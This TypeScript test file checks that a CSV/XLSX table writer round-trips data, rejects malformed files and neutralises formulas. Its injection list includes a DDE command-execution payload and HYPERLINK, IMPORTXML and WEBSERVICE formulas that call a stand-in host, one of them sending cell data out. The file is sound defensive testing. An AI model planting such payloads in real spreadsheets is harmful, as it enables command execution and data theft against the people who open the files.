import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openArchive } from '#platform/archive/index.ts';
import { type Cell, readTable, type TableFormat, writeTable } from './index.ts';

let folder = '';
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'lectern-tables-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function there(content: Uint8Array | string): Promise<string> {
  const path = join(folder, crypto.randomUUID());
  await writeFile(path, content);
  return path;
}

const formats: TableFormat[] = ['csv', 'xlsx'];

/** What has been seen to run in Excel, LibreOffice or Sheets. */
const injections = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '|calc',
  '%0A=1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example?"&A1,"look")',
  '=IMPORTXML("http://x.example","//a")',
  '=WEBSERVICE("http://x.example")',
  '"=1+1',
  "'=1+1",
];

describe.each(formats)('a table as %s', (format) => {
  it('comes back as it was', async () => {
    const cell = fc.oneof(
      fc.string({ maxLength: 20 }).map((text) => text.replace(/[\p{Cc}\p{Cs}\ufffe\uffff]/gu, '').trim()),
      fc.integer({ min: -1000, max: 1000 }),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.constant('k'), cell, cell), { minLength: 1, maxLength: 5 }),
        async (rows) => {
          const { file } = await writeTable(rows, format);
          const read = await readTable(await there(file));
          const expected = rows.map((row) => row.map((one) => String(one)));
          // Spreadsheets leave out empty cells at the end of a row.
          expect(read.map((row) => [...row, '', ''].slice(0, 3))).toEqual(
            // An apostrophe before a formula means "text", also where somebody wrote it.
            expected.map((row) => row.map((text) => text.replace(/^'(?=\s*[=+\-@|%＝＋－＠])/u, ''))),
          );
        },
      ),
      { numRuns: 30 },
    );
  });
});

describe('formulas', () => {
  it('never leave in CSV: no cell begins like one', async () => {
    const rows: Cell[][] = injections.map((text) => [text, `a ${text}`]);
    const { file } = await writeTable(rows, 'csv');
    const cells = file
      .toString('utf8')
      .replace(/^\ufeff/, '')
      .split(/\r\n/)
      .filter(Boolean);
    for (const cell of cells) expect(cell).toMatch(/^"?(?:'|""|"')/);
  });

  it('never leave in XLSX: the sheet has strings only', async () => {
    const { file } = await writeTable(
      injections.map((text) => [text]),
      'xlsx',
    );
    const archive = await openArchive(file);
    const sheets = archive.paths.filter((path) => /worksheets\/.*\.xml$/.test(path));
    expect(sheets.length).toBeGreaterThan(0);
    for (const path of sheets) {
      const xml = Buffer.from(await archive.read(path)).toString('utf8');
      expect(xml).not.toMatch(/<f[\s>]/);
    }
    await archive.close();
  });
});

describe('what is no table', () => {
  it('is refused with a cause', async () => {
    const refused = { kind: expect.stringMatching(/invalid|too-large/) };
    await expect(readTable(await there(Buffer.from([0xff, 0xfe, 0x00, 0xd8])))).rejects.toMatchObject(
      refused,
    );
    await expect(readTable(await there('PK\u0003\u0004 not a zip'))).rejects.toMatchObject(refused);
    await expect(readTable(await there('a,"b\n'))).rejects.toMatchObject(refused);
    await expect(readTable(await there('a\n'.repeat(20_002)))).rejects.toMatchObject(refused);
  });

  it('reads what other programs write: semicolons, tabs, a byte order mark', async () => {
    expect(await readTable(await there('\ufeffa;b\r\n1;"2,5"\r\n'))).toEqual([
      ['a', 'b'],
      ['1', '2,5'],
    ]);
    expect(await readTable(await there('a\tb\n1\t2\n'))).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });
});
